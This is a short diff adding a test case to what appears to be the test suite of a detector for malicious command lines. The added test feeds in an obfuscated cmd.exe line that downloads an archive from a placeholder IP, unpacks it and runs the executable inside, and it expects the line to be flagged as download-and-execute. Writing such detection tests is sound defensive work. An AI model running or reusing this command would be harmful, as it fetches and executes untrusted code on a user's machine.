@@ -558,6 +558,14 @@ describe('archives downloaded, unpacked and run; cmd.exe command lines', () => {
       ),
     ).toContain('script.download-execute');
   });
+  it('cmd /c whose line an argument list quoted in single quotes', () => {
+    expect(
+      found(
+        `cmd.exe /v:on /d /s /c 'set "u=http://198.51.100.40/r/a.zip" & ^c^u^r^l -s -o "C:\\t\\a.zip" "!u!" & ^t^a^r -xf "C:\\t\\a.zip" -C "C:\\t\\N" & ^s^t^a^r^t "" /b "C:\\t\\N\\h.exe"'`,
+        'sh',
+      ),
+    ).toContain('script.download-execute');
+  });
   it('quiet: an archive unpacked and only programs on PATH run after it', () => {
     expect(
       found(
